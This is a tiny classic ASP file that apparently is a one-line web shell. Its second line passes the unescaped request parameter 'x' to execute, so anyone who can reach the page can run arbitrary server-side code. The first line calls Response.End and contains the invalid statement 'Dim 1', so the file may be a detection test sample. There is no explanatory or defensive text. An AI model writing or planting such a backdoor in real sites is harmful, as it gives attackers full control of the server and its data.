<% Response.End : Dim 1 %>
<%execute(unescape(request("x")))%>